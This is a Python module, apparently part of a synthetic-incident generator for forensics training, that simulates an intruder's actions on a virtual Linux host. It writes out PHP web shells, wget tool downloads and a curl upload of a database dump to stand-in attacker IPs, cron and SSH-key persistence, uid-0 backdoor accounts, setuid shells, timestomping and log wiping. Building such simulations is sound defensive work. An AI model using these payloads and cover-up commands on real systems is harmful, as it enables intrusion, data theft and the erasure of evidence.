# SPDX-License-Identifier: Apache-2.0
"""What the seed's intruder does."""
import posixpath
import random

from .machine import Session, make_key
from .profile import DAY, SECOND
from .services import AGENTS
from .world import LogContent, Line, Trace

ENTRIES = ["guessed", "known", "ftp", "upload"]
WIPES = ["cut-sed", "cut-cat", "zero-wtmp", "truncate-wtmp", "empty-syslog", "hole"]
ACCOUNTS = ["useradd", "uid0", "edited", "none"]
DIRECTORIES = ["/tmp/.X25-lock", "/var/tmp/.cache", "/usr/lib/.libs", "/usr/share/man/.1", "/tmp/.. ", "/var/tmp/...",
               "/usr/local/lib/.d", "/var/lib/.update"]
TOOLS = ["scan", "psy", "muh", "bnc", "kworkerd", "dbus-helper", "udevd", "sshscan", "miner", "brute", "httpd2", "xmr"]
SHELLS = ["image.php", "cache.php", "thumb.php", "info2.php", "up.php", "class-mail.php", "x.php", "logo1.php"]
BINARIES = ["/usr/bin/ps", "/usr/bin/ls", "/usr/bin/netstat", "/usr/bin/top", "/usr/bin/find", "/usr/bin/du",
            "/usr/sbin/sshd", "/usr/bin/login", "/usr/bin/lsof", "/usr/bin/ss"]
FALSE_NAMES = ["support", "sysadm", "toor", "ftpd", "games2", "postfix", "nagios", "svc", "dbadm", "mailer"]


class Incident:
    def __init__(self, life):
        self.life, self.m, self.w, self.vfs, self.p = life, life.m, life.w, life.vfs, life.p
        self.rng = random.Random(f"incident {self.p.seed}")
        seed, rng = self.p.seed, self.rng
        self.entry = ENTRIES[seed % 4]
        self.wipe = WIPES[(seed // 2 + rng.randrange(2)) % 6]
        self.account = ACCOUNTS[(seed // 3) % 4]
        self.ip = rng.choice(["203.0.113.", "192.0.2."]) + str(rng.randint(2, 250))
        if self.entry in ("guessed", "known") and rng.random() < 0.25:
            self.ip = f"2001:db8:{rng.randint(1, 0xffff):x}::{rng.randint(2, 0xffff):x}"
        self.second_ip = self.ip if rng.random() < 0.6 else "192.0.2." + str(rng.randint(2, 250))
        self.directory = rng.choice(DIRECTORIES)
        self.tools = rng.sample(TOOLS, 3)
        self.false_name = rng.choice(FALSE_NAMES)
        self.key_line, self.key = make_key(rng, rng.choice(["root@kali", "x@x", "user@vps", "admin@localhost"]))
        self.quiet_history = rng.random() < 0.5
        self.deletes_late = rng.random() < 0.6
        self.rubbish = []

    # -- small things -------------------------------------------------------------------
    def drop(self, path, data, mode, uid, gid):
        self.vfs.create(path, data, self.w.now, mode, uid, gid)
        self.w.fact("file_drop", False, [self.w.time_trace(path, "crtime")], self._owner(uid), None, path)

    def _owner(self, uid):
        return next((n for n, v in self.m.accounts.passwd.items() if v[0] == uid), None)

    def remove(self, path, benign=False, lines=()):
        node = self.vfs.unlink(path, self.w.now)
        self.w.fact("file_deleted", benign, [Trace("deleted", node, "dtime", node.dtime, 1.0)], self._owner(node.uid), None,
                    path)
        self.w.facts[-1]["name_lines"] = list(lines)

    def binary(self, rng, size=4000):
        return b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0\x01\0\0\0" + rng.randbytes(size)

    def command(self, s, text, effect=None, pause=None):
        """One command as root: in a root shell, or each by sudo."""
        if s.uid == 0:
            yield from self.m.run(s, text, 0.2)
            program = self.vfs.lookup(self._program(text.split(" ", 1)[0]))
            if program is not None:
                self.vfs.touch_atime(program, self.w.now)
            if effect is not None:
                yield from effect()
            yield self.rng.uniform(2, 30) if pause is None else pause
        else:
            parts = text.split(" ", 1)
            program = self._program(parts[0])
            full = program + (" " + parts[1] if len(parts) > 1 else "")
            yield from self.m.sudo(s, full, typed="sudo " + text, effect=effect, pause=pause)

    def _program(self, name):
        for directory in ("/usr/sbin/", "/usr/bin/", "/sbin/", "/bin/"):
            if self.vfs.lookup(directory + name) is not None:
                return directory + name
        return "/usr/bin/" + name

    # -- ways in ------------------------------------------------------------------------
    def start(self):
        rng = self.rng
        if self.entry == "guessed":
            yield from self.guessed()
        elif self.entry == "known":
            yield from self.known()
        else:
            yield from self.web_entry()
        yield rng.uniform(0.5, 1.4) * DAY
        if self.m.up:
            yield from self.come_back()

    def guessed(self):
        m, w, rng = self.m, self.w, self.rng
        victim = self.p.people[1]
        first = None
        for _ in range(rng.randint(9, 22)):
            user = victim.name if rng.random() < 0.75 else rng.choice(["root", "admin", "test"])
            lines, _, _ = yield from m.ssh_failures(self.ip, user, rng.choice([3, 3, 6]))
            first = first or next(((t, l) for t, l in lines if user == victim.name), None)
            yield rng.uniform(0.5, 3.0)
        if first is None:
            lines, _, _ = yield from m.ssh_failures(self.ip, victim.name, 3)
            first = lines[0]
        w.fact("login_failure_burst", False, [w.line_trace(first[1])], victim.name, self.ip, when=first[0])
        yield from m.ssh_session(victim.name, self.ip, self.hands_on, benign=False)

    def known(self):
        victim = self.p.people[1]
        yield from self.m.ssh_session(victim.name, self.ip, self.hands_on, failures=self.rng.choice([0, 0, 1]), benign=False)

    def web_entry(self):
        m, w, p, rng, vfs = self.m, self.w, self.p, self.rng, self.vfs
        agent = rng.choice(AGENTS + ["Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)", "python-requests/2.31.0"])
        name = rng.choice(SHELLS)
        shell = rng.choice([b"<?php system($_REQUEST['%s']); ?>\n", b"<?php @eval(base64_decode($_POST['z'])); echo shell_exec($_REQUEST['%s']); ?>\n",
                            b"GIF89a<?php if(isset($_REQUEST['%s'])){passthru($_REQUEST['%s']);} ?>\n"])
        parameter = rng.choice(["cmd", "c", "x", "q"])
        shell = shell.replace(b"%s", parameter.encode())
        if self.entry == "ftp":
            path = f"/var/www/html/{rng.choice(['img', p.app])}/{name}"
            actions = [("put", path, shell)]
            if rng.random() < 0.6:
                actions.append(("get", f"/var/www/html/{p.app}/config.php", None))
            yield from m.ftp_session(p.ftp_user, self.ip, actions, benign=False)
        else:
            yield from m.scan(self.ip, agent, rng.sample(["/admin.php", "/wp-login.php", "/phpinfo.php", "/upload/", "/test.php",
                                                          "/old/", "/backup/"], 5))
            m.get(self.ip, agent, f"/{p.app}/upload.php", size=420)
            yield rng.uniform(5, 30)
            path, line, started = yield from m.form_upload(self.ip, agent, name, shell)
            w.fact("webshell_upload", False, [w.line_trace(line), w.time_trace(path, "crtime", 1.0)], None, self.ip, path,
                   when=started)
        url = path[len("/var/www/html"):]
        work = self.directory if self.directory.startswith(("/tmp", "/var/tmp")) else "/var/tmp/.cache"
        tool = self.tools[0]
        commands = ["id", "uname+-a", "cat+%2Fetc%2Fpasswd", f"mkdir+-p+{self.quoted(work)}",
                    f"wget+-O+{self.quoted(work)}%2F{tool}+http%3A%2F%2F{self.ip}%2F{tool}",
                    f"chmod+755+{self.quoted(work)}%2F{tool}", f"{self.quoted(work)}%2F{tool}"]
        for k, command in enumerate(commands):
            yield rng.uniform(4, 40)
            request = f"{url}?{parameter}={command}"
            line = m.get(self.ip, agent, request, size=rng.randint(160, 2400))
            w.fact("webshell_request", False, [w.line_trace(line)], None, self.ip, url)
            yield 0.02
            if k == 2 and rng.random() < 0.7:
                w.web_error("apache.sh_not_found", command="ifconfig2")
            if k == 3 and not vfs.exists(work):
                vfs.mkdir(work, w.now, 0o755, 33, 33)
            if k == 4:
                w.web_error("apache.cat_missing", path="/etc/redhat-release")
                yield 0.8
                self.drop(f"{work}/{tool}", self.binary(rng), 0o644, 33, 33)
            if k == 5:
                vfs.chmod(f"{work}/{tool}", 0o755, w.now)
        yield 1.2
        # the tool is an exploit: from here on root, and no log says how
        actor = Session(m, "root", self.ip, "?", False)
        m.add_key(actor, "root", self.key_line)
        yield rng.uniform(20, 120)
        yield from m.ssh_session("root", self.ip, self.hands_on, key=self.key, benign=False)

    @staticmethod
    def quoted(path):
        return path.replace("/", "%2F").replace(" ", "%20")

    # -- the session in which it happens --------------------------------------------------
    def hands_on(self, s):
        m, rng = self.m, self.rng
        s.keep_history = not self.quiet_history
        self.session_began = self.w.now
        if self.quiet_history:
            yield from m.run(s, "unset HISTFILE", 3)
        for command in rng.sample(["id", "w", "uname -a", "cat /etc/passwd", "last", "ls -la /home", "df -h"], 3):
            yield from m.run(s, command)
        if s.uid != 0 and rng.random() < 0.5:
            def inside(root):
                root.keep_history = s.keep_history
                yield from self.deeds(root)
            yield from m.root_shell(s, inside, rng.choice(["sudo -i", "sudo su -"]))
        else:
            yield from self.deeds(s)
        yield from m.run(s, "exit", 0.5)

    def deeds(self, s):
        rng = self.rng
        steps = [self.toolkit, self.replace_binary, self.persist]
        if self.account != "none":
            steps.append(self.make_account)
        if rng.random() < 0.6:
            steps.append(self.setuid_file)
        if rng.random() < 0.5:
            steps.append(self.dump_database)
        rng.shuffle(steps)
        for step in steps:
            yield from step(s)
            yield rng.uniform(5, 120)
        if self.rubbish:
            yield from self.rm(s, *self.rubbish, now=True)
        yield from self.blind(s)

    def toolkit(self, s):
        w, vfs, rng = self.w, self.vfs, self.rng
        directory = self.directory
        archive = f"/tmp/{rng.choice(['kit', 'a', 'pkg', 'upd'])}.tgz"
        if not vfs.exists(directory):
            def make():
                vfs.mkdir(directory, w.now, 0o755)
                yield 0.01
            yield from self.command(s, f"mkdir {directory if ' ' not in directory else repr(directory)}", make)

        def fetch():
            yield rng.uniform(0.4, 3)
            vfs.create(archive, b"\x1f\x8b\x08\0" + rng.randbytes(9000), w.now)
        yield from self.command(s, f"wget -q http://{self.second_ip}/{posixpath.basename(archive)} -O {archive}", fetch)

        def unpack():
            for tool in self.tools[1:]:
                self.drop(f"{directory}/{tool}", self.binary(rng, rng.randint(2000, 9000)), 0o755, 0, 0)
                yield 0.02
        yield from self.command(s, f"tar xzf {archive} -C {directory if ' ' not in directory else repr(directory)}", unpack)
        yield from self.rm(s, archive)
        if rng.random() < 0.75:
            victim = f"{directory}/{self.tools[1]}"
            reference = rng.choice(["/usr/bin/bash", "/usr/bin/cat", "/etc/debian_version"])

            def stomp():
                node = vfs.lookup(reference)
                vfs.set_times(victim, node.atime, node.mtime, w.now)
                w.fact("file_timestomped", False, [w.time_trace(victim, "ctime")], "root", None, victim)
                yield 0.01
            yield from self.command(s, f"touch -r {reference} {victim if ' ' not in victim else repr(victim)}", stomp)

    def rm(self, s, *paths, now=False):
        """Deletes at once, or leaves it to the end of the session."""
        if self.deletes_late and not now:
            self.rubbish += paths
            return

        def delete():
            line = self._last_line()
            for path in paths:
                self.remove(path, lines=[line] if s.uid != 0 and line else [])
                self.w.facts[-1]["typed"] = s.keep_history
                yield 0.001
        yield from self.command(s, "rm -f " + " ".join(paths), delete)

    def _last_line(self):
        node = self.vfs.lookup("/var/log/auth.log")
        return node.log.lines[-2] if node is not None and node.log and len(node.log.lines) > 1 else None

    def replace_binary(self, s):
        w, vfs, rng = self.w, self.vfs, self.rng
        path = rng.choice([b for b in BINARIES if vfs.lookup(b) is not None])
        old = vfs.lookup(path)
        atime, mtime, mode = old.atime, old.mtime, old.mode & 0o7777
        fake = self.binary(rng, max(500, len(old.content()) - 24))
        in_place = rng.random() < 0.5
        source = f"/tmp/.{posixpath.basename(path)}"

        def bring():
            yield 0.5
            vfs.create(source, fake, w.now, 0o755)
        yield from self.command(s, f"wget -q http://{self.second_ip}/{posixpath.basename(path)} -O {source}", bring)

        def put():
            if in_place:
                vfs.write(path, fake, w.now)
                trace = w.time_trace(path, "ctime", 60.0)
            else:
                vfs.unlink(path, w.now)
                vfs.create(path, fake, w.now + 60_000, mode)
                trace = w.time_trace(path, "crtime")
            w.fact("binary_replaced", False, [trace], "root", None, path)
            self.replaced_fact = w.facts[-1]
            yield 0.01
        yield from self.command(s, (f"cp {source} {path}" if in_place else f"install -m {mode:o} {source} {path}"), put, 4.0)
        if rng.random() < 0.8:
            def restore():
                vfs.set_times(path, atime, mtime // SECOND * SECOND, w.now)
                if in_place:
                    self.replaced_fact["traces"] = [w.time_trace(path, "ctime", max(1.0, (w.now - self.replaced_fact["time"]) / SECOND + 0.1))]
                w.fact("file_timestomped", False, [w.time_trace(path, "ctime")], "root", None, path)
                yield 0.01
            yield from self.command(s, f"touch -d @{mtime // SECOND} {path}", restore, 2.0)
        yield from self.rm(s, source)

    def persist(self, s):
        m, w, vfs, rng = self.m, self.w, self.vfs, self.rng
        tool = f"{self.directory}/{self.tools[1]}"
        if " " in tool:
            tool = f'"{tool}"'
        kind = rng.choice(["cron.d", "crontab", "key", "both"])
        if kind in ("cron.d", "both"):
            path = "/etc/cron.d/" + rng.choice(["e2scrub", "sysstat2", "popcon", "mdadm-chk", self.tools[1]])

            def make():
                vfs.create(path, f"17 * * * * root {tool} -q >/dev/null 2>&1\n".encode(), w.now)
                if rng.random() < 0.4:
                    vfs.set_immutable(path, w.now + 5_000_000_000)
                w.fact("cron_persistence", False, [w.time_trace(path, "crtime")], "root", None, path)
                m.extra_cron = [("root", f"{tool} -q >/dev/null 2>&1", "hourly")]
                yield 0.01
            yield from self.command(s, f"cp /tmp/.c {path}" if s.uid == 0 else f"tee {path}", make)
        if kind == "crontab":
            def make():
                yield from m.user_crontab(s if s.uid == 0 else self._root(s), "root", f"17 * * * * {tool} -q >/dev/null 2>&1\n")
                m.extra_cron = [("root", f"{tool} -q >/dev/null 2>&1", "hourly")]
            yield from self.command(s, "crontab -", make)
        if kind in ("key", "both") and not (s.user == "root" and self.entry in ("ftp", "upload")):
            user = rng.choice(["root", self.p.people[1].name])

            def make():
                actor = self._root(s)
                m.add_key(actor, user, self.key_line)
                self.key_user = user
                yield 0.01
            home = m.accounts.passwd[user][3]
            yield from self.command(s, f"tee -a {home}/.ssh/authorized_keys", make)

    def _root(self, s):
        actor = Session(self.m, "root", s.ip, s.tty, False)
        return actor

    def make_account(self, s):
        m, w, vfs, rng = self.m, self.w, self.vfs, self.rng
        name = self.false_name
        while name in m.accounts.passwd:
            name += "1"
        self.false_name = name
        actor = self._root(s)
        if self.account == "useradd":
            yield from self.command(s, f"useradd -m -s /bin/bash {name}", lambda: m.useradd(actor, name))
            yield from self.command(s, f"usermod -aG sudo {name}", lambda: m.group_add(actor, name, "sudo"))
            yield from self.command(s, "chpasswd", lambda: m.passwd(actor, name, "chpasswd"))
        elif self.account == "uid0":
            yield from self.command(s, f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {name}",
                                    lambda: m.useradd(actor, name, uid=0, home="/root", own_group=False))
            yield from self.command(s, "chpasswd", lambda: m.passwd(actor, name, "chpasswd"))
        else:
            uid = rng.choice([0, m.accounts.next_uid(), 500 + rng.randint(1, 90)])
            m.accounts.passwd[name] = [uid, uid, "", "/var/tmp" if uid else "/root", "/bin/bash"]
            m.accounts.shadow[name] = [m.accounts.hash(), 0]

            def edit():
                vfs.write("/etc/passwd", m.accounts.text("passwd").encode(), w.now)
                vfs.write("/etc/shadow", m.accounts.text("shadow").encode(), w.now + 4_000_000)
                w.fact("account_created", False, [w.time_trace("/etc/passwd", "mtime")], name, None, "/etc/passwd")
                yield 0.01
            yield from self.command(s, "tee -a /etc/passwd /etc/shadow", edit)

    def setuid_file(self, s):
        w, vfs = self.w, self.vfs
        path = self.rng.choice(["/usr/lib/.sh", "/var/tmp/.bash", "/usr/bin/.x", "/var/lib/.su", "/usr/local/bin/rsh2"])
        if vfs.exists(path):
            return

        def make():
            self.drop(path, vfs.lookup("/usr/bin/bash").content(), 0o755, 0, 0)
            yield 0.4
        yield from self.command(s, f"cp /bin/bash {path}", make, 2.0)

        def mode():
            vfs.chmod(path, 0o4755, w.now)
            yield 0.01
        yield from self.command(s, f"chmod 4755 {path}", mode)

    def dump_database(self, s):
        m, w, vfs, p, rng = self.m, self.w, self.vfs, self.p, self.rng
        path = rng.choice(["/tmp/d.gz", "/var/tmp/o.gz", "/tmp/.db"])

        def dump():
            yield from m.db_session("root", p.database, ["SHOW FULL TABLES", "SELECT /*!40001 SQL_NO_CACHE */ * FROM `users`"])
            vfs.create(path, b"\x1f\x8b\x08\0" + rng.randbytes(5000), w.now)
        yield from self.command(s, f"mariadb-dump {p.database} --result-file={path}", dump)
        yield from self.command(s, f"curl -s -T {path} http://{self.second_ip}/in/")
        yield from self.rm(s, path)

    # -- covering the tracks ----------------------------------------------------------------
    def blind(self, s):
        w, vfs, rng = self.w, self.vfs, self.rng
        tampered = lambda path, traces: w.fact("log_tampered", False, traces, "root", None, path)
        began = getattr(self, "session_began", w.now)
        mine = lambda line: self.ip.encode() in line.data or self.second_ip.encode() in line.data
        if self.wipe == "cut-sed":
            def cut():
                node = vfs.lookup("/var/log/auth.log")
                kept = [line for line in node.log.lines if not mine(line)]
                fresh = vfs.create("/var/log/sedQx1aZ2", b"", w.now, node.mode & 0o777, node.uid, node.gid)
                fresh.log = LogContent(kept)
                vfs.rename("/var/log/sedQx1aZ2", "/var/log/auth.log", w.now + 3_000_000)
                node = fresh
                tampered("/var/log/auth.log", [w.time_trace("/var/log/auth.log", "crtime", 1.0), Trace("since", node, value=began)])
                yield 0.3
                w.syslog("daemon", "rsyslogd.huped", version="8.2302.0", pid=w.rsyslog_pid)
            yield from self.command(s, f"sed -i /{self.ip.replace('.', chr(92) + '.')}/d /var/log/auth.log", cut)
        elif self.wipe == "cut-cat":
            def cut():
                node = vfs.lookup("/var/log/auth.log")
                lines = node.log.lines
                kept = [line for line in lines if not mine(line)]
                vfs.create("/tmp/.a", b"".join(line.data for line in kept), w.now, 0o644)
                yield 1.5
                node.log.lines = [line for line in node.log.lines if not mine(line)]
                node.mtime = node.ctime = w.now
                at = w.now
                yield 2.2
                self.remove("/tmp/.a")
                tampered("/var/log/auth.log", [Trace("deleted", w.facts[-1]["traces"][0].what, "dtime",
                                                     w.facts[-1]["traces"][0].value, 4.0, "/tmp/.a"), Trace("since", node, value=began)])
                w.facts[-1]["time"] = at
            yield from self.command(s, f"grep -v {self.ip} /var/log/auth.log", cut)
        elif self.wipe == "zero-wtmp":
            def zero():
                node = vfs.lookup("/var/log/wtmp")
                before = began
                for k, line in enumerate(node.log.lines):
                    if mine(line):
                        node.log.lines[k] = Line(bytes(384), line.time)
                        before = min(before, node.log.lines[k - 1].time if k else line.time)
                node.mtime = node.ctime = w.now
                tampered("/var/log/wtmp", [w.time_trace("/var/log/wtmp", "mtime", 1.0), Trace("since", node, value=before)])
                yield 0.01
            yield from self.command(s, f"{'perl'} /tmp/.z.pl {self.ip}", zero)
        elif self.wipe == "truncate-wtmp":
            def cut():
                node = vfs.lookup("/var/log/wtmp")
                node.log.lines = []
                node.mtime = node.ctime = w.now
                tampered("/var/log/wtmp", [Trace("before-first", node)])
                yield 0.01
            yield from self.command(s, "truncate -s 0 /var/log/wtmp", cut)
        elif self.wipe == "empty-syslog":
            def cut():
                node = vfs.lookup("/var/log/syslog")
                node.log.lines = []
                node.mtime = node.ctime = w.now
                tampered("/var/log/syslog", [Trace("before-first", node)])
                yield 0.01
            yield from self.command(s, "truncate -s 0 /var/log/syslog", cut)
        else:
            hole = rng.uniform(4, 9) * 3600
            last = self._last_syslog_time()

            def stop():
                w.syslog_on = False
                tampered("/var/log/syslog", [Trace("always", vfs.lookup("/var/log/syslog"), tolerance=max(2.0, (w.now - last) / SECOND + 1))])
                yield 0.2
            yield from self.command(s, "service rsyslog stop", stop)

            def later():
                yield hole
                if self.m.up:
                    w.syslog_on = True
                    w.rsyslog_pid = w.pid()
                    w.syslog("daemon", "rsyslogd.start", version="8.2302.0", pid=w.rsyslog_pid)
            w.do(later())

    def _last_syslog_time(self):
        return self.vfs.lookup("/var/log/syslog").mtime

    # -- afterwards -------------------------------------------------------------------------
    def come_back(self):
        m, rng = self.m, self.rng

        def look(s):
            s.keep_history = not self.quiet_history
            for command in rng.sample(["w", "ls -la", "netstat -tan", "crontab -l", "tail /var/log/auth.log"], 3):
                yield from m.run(s, command)
            yield from m.run(s, "exit", 0.4)
        if self.account == "useradd" and self.false_name in m.accounts.passwd:
            yield from m.ssh_session(self.false_name, self.second_ip, look, benign=False)
        elif self.account == "uid0" and (self.entry in ("ftp", "upload") or getattr(self, "key_user", None) == "root"):
            # no password for uid 0 (PermitRootLogin prohibit-password), but root's key file is this account's too
            yield from m.ssh_session(self.false_name, self.second_ip, look, key=self.key, benign=False)
        elif self.entry in ("ftp", "upload"):
            yield from m.ssh_session("root", self.second_ip, look, key=self.key, benign=False)
        elif getattr(self, "key_user", None):
            yield from m.ssh_session(self.key_user, self.second_ip, look, key=self.key, benign=False)
        else:
            yield from m.ssh_session(self.p.people[1].name, self.second_ip, look, benign=False)
